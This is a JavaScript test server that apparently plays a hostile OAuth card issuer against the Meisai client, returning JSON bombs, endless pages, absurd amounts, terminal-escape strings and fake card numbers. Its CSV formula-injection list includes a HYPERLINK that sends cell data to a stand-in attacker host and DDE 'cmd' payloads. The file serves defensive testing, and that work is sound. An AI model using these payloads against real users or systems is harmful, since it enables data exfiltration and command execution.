// An issuer written to attack Meisai, for tests/hostile: just enough OAuth 2.0
// for meisai-cli to link it (RFC 8414 discovery, an authorization endpoint that
// approves at once, PKCE S256 checked at the token endpoint, RFC 9207 iss,
// RFC 7009 revocation) and the card API v1, whose answers are chosen by a mode
// set through an admin path guarded by a random token.
//
//   node hostile-issuer.mjs --cert server.pem --key server.key [--port 0]
// prints one line on stdout when it listens:
//   {"ready":true,"issuer":"https://127.0.0.1:PORT","admin_token":"…"}
//
// Admin (header "X-Admin-Token: <admin_token>"):
//   POST /admin/mode  {"mode":"…"}   switches the answers (modes below)
//   GET  /admin/stats                requests per route since the last mode switch
//
// Modes: clean; bomb-nesting, bomb-numbers (GET /v1/cards just under 8 MiB);
// bomb-string (a transaction's merchant name of nearly 8 MiB);
// pages-same-key, pages-new-keys (transactions: hasNext forever);
// amount-1e300, amount-below-int64, amount-string, amount-2p53 (a
// transaction's amount), amount-statement (a statement's total); control
// (escape sequences and bidi controls in every text); control-errors (API
// errors full of them); token-errors (every token refused, the refresh too,
// with them in error_description); formula (CSV formula payloads); pan (a
// full card number in names and ids).
//
// Only Node's built-in modules, and nothing newer than Node 18 (Debian 12).

import https from 'node:https';
import fs from 'node:fs';
import crypto from 'node:crypto';

function option(name, fallback) {
  const i = process.argv.indexOf(`--${name}`);
  return i > 0 && i + 1 < process.argv.length ? process.argv[i + 1] : fallback;
}

const certFile = option('cert');
const keyFile = option('key');
if (!certFile || !keyFile) {
  process.stderr.write('usage: node hostile-issuer.mjs --cert CERT --key KEY [--port N]\n');
  process.exit(2);
}

const adminToken = crypto.randomBytes(24).toString('hex');
const MAX_BODY = 8 * 1024 * 1024; // core/net/HttpClient.h: maxResponseBytes
const BOMB_SIZE = MAX_BODY - 1024; // just under the client's limit, so that only the decoder can refuse it
const CLIENT_ID = 'meisai-desktop';
const SCOPES = ['cards:read', 'transactions:read', 'statements:read', 'limits:read'];

// ---- what the attacks send

// Every kind of terminal trick in one string: clear screen, retitle the
// window (OSC 0 … BEL), hide text (SGR 8), the C1 CSI, a right-to-left
// override and a left-to-right isolate, carriage return, backspace, NUL, DEL,
// a line separator and a lone surrogate (JSON allows "\ud800").
const DIRTY = '\u001b[2J\u001b]0;pwned-title\u0007\u001b[8mhidden\u001b[0m\u009b31m'
  + '\u202etxt.exe\u2066iso\u2069\rOVERWRITE\b\b\u0000\u007fend\u2028line\ud800';

// Formula injection (CSV opened in a spreadsheet).
const FORMULAS = [
  '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
];

// A Luhn-valid 16-digit number that is not any sandbox card's.
function luhnComplete(prefix15) {
  let sum = 0;
  for (let i = 0; i < 15; ++i) {
    let d = Number(prefix15[14 - i]);
    if (i % 2 === 0) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return prefix15 + String((10 - (sum % 10)) % 10);
}
const PAN = luhnComplete('453914880343646');

// Raw JSON number text for the amount attacks (a JSON number is sent as written).
const ABSURD = {
  'amount-1e300': '1e300',
  'amount-below-int64': '-9223372036854775809',
  'amount-string': '"12abc"',
  'amount-2p53': '9007199254740993',
};

let mode = 'clean';
let stats = {};
let pageCounter = 0;

function count(route) {
  stats[route] = (stats[route] || 0) + 1;
}

// ---- dates

function jstNow() {
  return new Date(Date.now() + 9 * 3600 * 1000);
}
function isoDate(d) {
  return d.toISOString().slice(0, 10);
}
function month(d) {
  return d.toISOString().slice(0, 7);
}
function rfc3339Jst(d) {
  return d.toISOString().slice(0, 19) + '+09:00';
}

// ---- card API data per mode

function family() {
  if (mode.startsWith('amount-')) return 'amount';
  if (mode.startsWith('pages-')) return 'pages';
  if (mode.startsWith('bomb-')) return 'bomb';
  return mode;
}

function cardId() {
  return mode === 'pan' ? PAN : `card-${family()}`;
}

function cardName() {
  switch (mode) {
    case 'control':
    case 'pages-same-key': // the guard's message names the card
      return `Gold ${DIRTY}`;
    case 'formula': return FORMULAS[2];
    case 'pan': return `Gold ${PAN}`;
    default: return 'Hostile Gold';
  }
}

function transaction(n, overrides) {
  const today = jstNow();
  const t = {
    transactionId: `tx-${mode}-${n}`,
    useDate: isoDate(today),
    postingDate: isoDate(today),
    merchantName: `Shop ${n}`,
    remarks: '',
    holderType: 'principal',
    amount: 1000 + n,
    paymentMethod: '10',
    installmentCount: 1,
    paymentAmount: 1000 + n,
    feeAmount: 0,
    paymentMonth: month(today),
    status: 'confirmed',
    approvalNumber: `A${n}`,
    foreign: null,
  };
  return Object.assign(t, overrides || {});
}

function transactions() {
  switch (mode) {
    case 'control':
      return [transaction(1, { merchantName: `Shop ${DIRTY}`, remarks: DIRTY, approvalNumber: DIRTY })];
    case 'formula':
      return FORMULAS.map((f, i) => transaction(i + 1, { merchantName: f, remarks: FORMULAS[(i + 1) % FORMULAS.length],
        approvalNumber: FORMULAS[(i + 2) % FORMULAS.length] }));
    case 'pan':
      return [transaction(1, { transactionId: `tx-${PAN}`, merchantName: `Shop ${PAN}`, remarks: `card ${PAN}` }),
        transaction(2, { transactionId: PAN, merchantName: `${PAN.slice(0, 4)}-${PAN.slice(4, 8)}-${PAN.slice(8, 12)}-${PAN.slice(12)}` })];
    default:
      return [transaction(1), transaction(2), transaction(3)];
  }
}

function page(items, hasNext, nextItemKey) {
  const today = jstNow();
  return {
    cardId: cardId(), dateFrom: '2025-01-01', dateTo: isoDate(today), baseDate: isoDate(today),
    baseTime: rfc3339Jst(today), count: items.length, hasNext, nextItemKey: hasNext ? nextItemKey : null,
    transactions: items,
  };
}

// The body as text: the amount attacks and bombs need JSON no serialiser writes.
// Every page is the answer, whatever the query: the attacks do not depend on it.
function transactionsBody() {
  if (mode === 'pages-same-key') {
    ++pageCounter;
    return JSON.stringify(page([transaction(pageCounter)], true, 'the-same-key'));
  }
  if (mode === 'pages-new-keys') {
    ++pageCounter;
    return JSON.stringify(page([transaction(pageCounter)], true, `key-${pageCounter}-${crypto.randomBytes(6).toString('hex')}`));
  }
  if (mode === 'bomb-string') {
    // One merchant name of nearly 8 MiB, written as bidi-override escapes (6 bytes each).
    const marker = '"merchantName":"Shop 1"';
    const text = JSON.stringify(page([transaction(1)], false, null));
    const room = BOMB_SIZE - text.length + marker.length - '"merchantName":""'.length;
    return text.replace(marker, `"merchantName":"${'\\u202e'.repeat(Math.floor(room / 6))}"`);
  }
  if (ABSURD[mode]) {
    const marker = '"amount":424242';
    const text = JSON.stringify(page([transaction(1), transaction(2, { amount: 424242 })], false, null));
    return text.replace(marker, `"amount":${ABSURD[mode]}`);
  }
  return JSON.stringify(page(transactions(), false, null));
}

// bomb-nesting: arrays nested 1,000 deep (under Qt's own parser limit of
// 1,024, so only Meisai's budget can refuse it) with about 2,000 fractional
// numbers at every level, filling the body: the shape that made every number
// cost a path string as long as its depth. bomb-numbers: one flat array of
// fractional numbers of the same size.
let bombCache = {};
function bomb(kind) {
  if (bombCache[kind]) return bombCache[kind];
  const head = `{"cards":[{"cardId":"card-bomb","maskedPan":"4980-12**-****-1234","cardName":"Bomb","holderType":"principal","isVirtual":false}],"count":1,"extension":`;
  const tail = '}';
  const room = BOMB_SIZE - head.length - tail.length;
  let value;
  if (kind === 'bomb-nesting') {
    const depth = 1000;
    const perLevel = Math.floor((room - depth * 4) / depth / 4);
    const numbers = Array(perLevel).fill('0.5').join(',');
    value = `[${numbers},`.repeat(depth - 1) + `[${numbers}]` + ']'.repeat(depth - 1);
  } else {
    const n = Math.floor((room - 2) / 5); // "1.25,"
    value = `[${Array(n).fill('1.25').join(',')}]`;
  }
  let body = head + value + tail;
  if (body.length < BOMB_SIZE) body = head + value + ' '.repeat(BOMB_SIZE - body.length) + tail;
  bombCache[kind] = body;
  return body;
}

function cardsBody() {
  if (mode === 'bomb-nesting' || mode === 'bomb-numbers') return bomb(mode);
  return JSON.stringify({
    cards: [{ cardId: cardId(), maskedPan: '4539-14**-****-6467', cardName: cardName(), holderType: 'principal', isVirtual: false }],
    count: 1,
  });
}

function statementBody(card, billingMonth) {
  const text = JSON.stringify({
    cardId: card, billingMonth, closingDate: `${billingMonth}-05`, dueDate: `${billingMonth}-27`,
    billingStatus: 'confirmed', totalBilledAmount: 3006, newUsageAmount: 3006, transactionCount: 3, currencyCode: 'JPY',
  });
  return mode === 'amount-statement' ? text.replace('"totalBilledAmount":3006', '"totalBilledAmount":-1e300') : text;
}

function limitsBody(card) {
  return JSON.stringify({
    cardId: card, shoppingLimit: 500000, shoppingAvailable: 400000, cashingLimit: 0, cashingAvailable: 0,
    installmentAvailable: 400000, revolvingAvailable: 400000, currencyCode: 'JPY',
  });
}

function noticesBody() {
  let title = 'Scheduled maintenance';
  let body = 'Nothing to do.';
  if (mode === 'control') {
    title = `Security ${DIRTY}`;
    body = `Call us ${DIRTY}`;
  } else if (mode === 'formula') {
    title = FORMULAS[0];
    body = FORMULAS[1];
  } else if (mode === 'pan') {
    title = `Card ${PAN} was used`;
    body = `Card number ${PAN}`;
  }
  return JSON.stringify({
    notices: [{ noticeId: `notice-${mode}`, kind: mode === 'clean' ? 'info' : 'security', title, body,
      publishedAt: rfc3339Jst(jstNow()) }],
    count: 1,
  });
}

function profileBody() {
  const dirty = mode === 'control' ? DIRTY : '';
  return JSON.stringify({
    issuerId: 'hostile-card', legalName: `Hostile Card Co.${dirty}`, legalNameEn: `Hostile Card Co.${dirty}`,
    brandName: `Hostile${dirty}`, kind: 'credit_card', services: [`Cards${dirty}`], servicesEn: [`Cards${dirty}`],
    inquiryContact: { name: `Desk${dirty}`, nameEn: `Desk${dirty}`, phone: `0120-000-666${dirty}`, email: 'desk@hostile.invalid',
      hours: `24h${dirty}`, hoursEn: `24h${dirty}`, url: 'https://hostile.invalid/' },
    serviceHours: `always${dirty}`, serviceHoursEn: `always${dirty}`, maintenanceWindow: `never${dirty}`,
    apiVersion: '1.2.0', sandbox: false,
  });
}

// ---- OAuth

const codes = new Map(); // code -> {challenge, redirectUri, scope}
const refreshTokens = new Set();
const accessTokens = new Set();

function json(res, status, text, extra) {
  res.writeHead(status, Object.assign({ 'Content-Type': 'application/json;charset=UTF-8', 'Cache-Control': 'no-store',
    'x-api-version': '1.2.0' }, extra || {}));
  res.end(text);
}

function oauthError(res, status, error) {
  // Even OAuth errors carry the terminal tricks in the control-errors mode.
  const description = mode === 'control-errors' || mode === 'token-errors' ? `denied ${DIRTY}` : error;
  json(res, status, JSON.stringify({ error, error_description: description }));
}

function discovery(issuer) {
  return {
    issuer,
    authorization_endpoint: `${issuer}/authorize`,
    token_endpoint: `${issuer}/token`,
    revocation_endpoint: `${issuer}/revoke`,
    response_types_supported: ['code'],
    response_modes_supported: ['query'],
    grant_types_supported: ['authorization_code', 'refresh_token'],
    code_challenge_methods_supported: ['S256'],
    token_endpoint_auth_methods_supported: ['none'],
    revocation_endpoint_auth_methods_supported: ['none'],
    authorization_response_iss_parameter_supported: true,
    scopes_supported: SCOPES,
    api_base_url: issuer,
  };
}

function issueTokens(res, scope) {
  const access = crypto.randomBytes(24).toString('base64url');
  const refresh = crypto.randomBytes(24).toString('base64url');
  accessTokens.add(access);
  refreshTokens.add(refresh);
  json(res, 200, JSON.stringify({ access_token: access, token_type: 'Bearer', expires_in: 3600, refresh_token: refresh,
    refresh_expires_in: 86400 * 30, scope }));
}

function token(res, form) {
  if (form.get('client_id') !== CLIENT_ID) return oauthError(res, 401, 'invalid_client');
  const grant = form.get('grant_type');
  if (grant === 'authorization_code') {
    const entry = codes.get(form.get('code') || '');
    codes.delete(form.get('code') || '');
    if (!entry || entry.redirectUri !== form.get('redirect_uri')) return oauthError(res, 400, 'invalid_grant');
    const verifier = form.get('code_verifier') || '';
    const challenge = crypto.createHash('sha256').update(verifier).digest('base64url');
    if (!/^[A-Za-z0-9._~-]{43,128}$/.test(verifier) || challenge !== entry.challenge) return oauthError(res, 400, 'invalid_grant');
    return issueTokens(res, entry.scope);
  }
  if (grant === 'refresh_token') {
    const refresh = form.get('refresh_token') || '';
    if (mode === 'token-errors' || !refreshTokens.has(refresh)) return oauthError(res, 400, 'invalid_grant');
    refreshTokens.delete(refresh);
    return issueTokens(res, SCOPES.join(' '));
  }
  return oauthError(res, 400, 'unsupported_grant_type');
}

function authorize(res, query, issuer) {
  const redirectUri = query.get('redirect_uri') || '';
  let redirect;
  try {
    redirect = new URL(redirectUri);
  } catch (e) {
    redirect = null;
  }
  if (query.get('client_id') !== CLIENT_ID || !redirect || redirect.protocol !== 'http:'
      || redirect.hostname !== '127.0.0.1' || redirect.pathname !== '/callback') {
    res.writeHead(400, { 'Content-Type': 'text/plain' });
    res.end('unknown client or redirect_uri');
    return;
  }
  if (query.get('response_type') !== 'code' || query.get('code_challenge_method') !== 'S256'
      || !/^[A-Za-z0-9_-]{43}$/.test(query.get('code_challenge') || '')) {
    redirect.searchParams.set('error', 'invalid_request');
  } else {
    const code = crypto.randomBytes(24).toString('base64url');
    codes.set(code, { challenge: query.get('code_challenge'), redirectUri, scope: query.get('scope') || SCOPES.join(' ') });
    redirect.searchParams.set('code', code);
  }
  if (query.has('state')) redirect.searchParams.set('state', query.get('state'));
  redirect.searchParams.set('iss', issuer);
  res.writeHead(302, { Location: redirect.toString(), 'Cache-Control': 'no-store' });
  res.end();
}

// ---- the card API

function api(req, res, path) {
  const publicRoute = path === '/v1/profile' || path === '/v1/notices';
  const auth = req.headers.authorization || '';
  if (!publicRoute && (mode === 'token-errors' || !(auth.startsWith('Bearer ') && accessTokens.has(auth.slice(7))))) {
    // token-errors: the issuer has ended the grant; every token is refused, and so is the refresh.
    count('unauthorized');
    const message = mode === 'token-errors' ? `invalid token ${DIRTY}` : 'invalid token';
    return json(res, 401, JSON.stringify({ error: 'invalid_token', errorCode: 'E401', errorMessage: message, errorDetails: [] }),
      { 'WWW-Authenticate': 'Bearer error="invalid_token"' });
  }
  if (mode === 'control-errors' && !publicRoute) {
    count('error');
    return json(res, 400, JSON.stringify({ error: 'invalid_request', errorCode: `E400${DIRTY}`, errorMessage: `bad ${DIRTY}`,
      error_description: `bad ${DIRTY}`, errorDetails: [{ field: `f${DIRTY}`, message: `m${DIRTY}` }, `d${DIRTY}`] }));
  }
  let m;
  if (path === '/v1/profile') {
    count('profile');
    return json(res, 200, profileBody());
  }
  if (path === '/v1/notices') {
    count('notices');
    return json(res, 200, noticesBody());
  }
  if (path === '/v1/cards') {
    count('cards');
    return json(res, 200, cardsBody());
  }
  if (/^\/v1\/cards\/[^/]+\/transactions$/.test(path)) {
    count('transactions');
    return json(res, 200, transactionsBody());
  }
  if ((m = /^\/v1\/cards\/([^/]+)\/statements\/([0-9]{4}-[0-9]{2})$/.exec(path))) {
    count('statements');
    return json(res, 200, statementBody(decodeURIComponent(m[1]), m[2]));
  }
  if ((m = /^\/v1\/cards\/([^/]+)\/limits$/.exec(path))) {
    count('limits');
    return json(res, 200, limitsBody(decodeURIComponent(m[1])));
  }
  count('not_found');
  return json(res, 404, JSON.stringify({ error: 'not_found', errorCode: 'E404', errorMessage: 'not found', errorDetails: [] }));
}

// ---- the server

const server = https.createServer({ cert: fs.readFileSync(certFile), key: fs.readFileSync(keyFile), minVersion: 'TLSv1.2' });

server.on('request', (req, res) => {
  const chunks = [];
  let size = 0;
  req.on('data', (c) => {
    size += c.length;
    if (size < 1024 * 1024) chunks.push(c);
  });
  req.on('end', () => {
    const issuer = `https://127.0.0.1:${server.address().port}`;
    const url = new URL(req.url, issuer);
    const body = Buffer.concat(chunks).toString('utf8');
    const path = url.pathname;
    if (path.startsWith('/admin/')) {
      if (req.headers['x-admin-token'] !== adminToken) return json(res, 403, '{"error":"forbidden"}');
      if (path === '/admin/mode' && req.method === 'POST') {
        let wanted;
        try {
          wanted = JSON.parse(body).mode;
        } catch (e) {
          wanted = undefined;
        }
        const known = ['clean', 'bomb-nesting', 'bomb-numbers', 'bomb-string', 'amount-statement', 'pages-same-key', 'pages-new-keys', 'control',
          'control-errors', 'token-errors', 'formula', 'pan'].concat(Object.keys(ABSURD));
        if (!known.includes(wanted)) return json(res, 400, JSON.stringify({ error: 'unknown mode', known }));
        mode = wanted;
        stats = {};
        pageCounter = 0;
        return json(res, 200, JSON.stringify({ mode, pan: PAN }));
      }
      if (path === '/admin/stats') return json(res, 200, JSON.stringify({ mode, requests: stats }));
      return json(res, 404, '{"error":"not_found"}');
    }
    if (path === '/.well-known/oauth-authorization-server') {
      count('discovery');
      return json(res, 200, JSON.stringify(discovery(issuer)));
    }
    if (path === '/authorize' && req.method === 'GET') {
      count('authorize');
      return authorize(res, url.searchParams, issuer);
    }
    if (path === '/token' && req.method === 'POST') {
      count('token');
      return token(res, new URLSearchParams(body));
    }
    if (path === '/revoke' && req.method === 'POST') {
      count('revoke');
      const t = new URLSearchParams(body).get('token') || '';
      accessTokens.delete(t);
      refreshTokens.delete(t);
      res.writeHead(200, { 'Cache-Control': 'no-store' });
      return res.end();
    }
    if (path.startsWith('/v1/') && req.method === 'GET') return api(req, res, path);
    return json(res, 404, '{"error":"not_found"}');
  });
});

server.listen(Number(option('port', '0')), '127.0.0.1', () => {
  const issuer = `https://127.0.0.1:${server.address().port}`;
  process.stdout.write(`${JSON.stringify({ ready: true, issuer, admin_token: adminToken })}\n`);
});

for (const signal of ['SIGTERM', 'SIGINT']) process.on(signal, () => server.close(() => process.exit(0)));
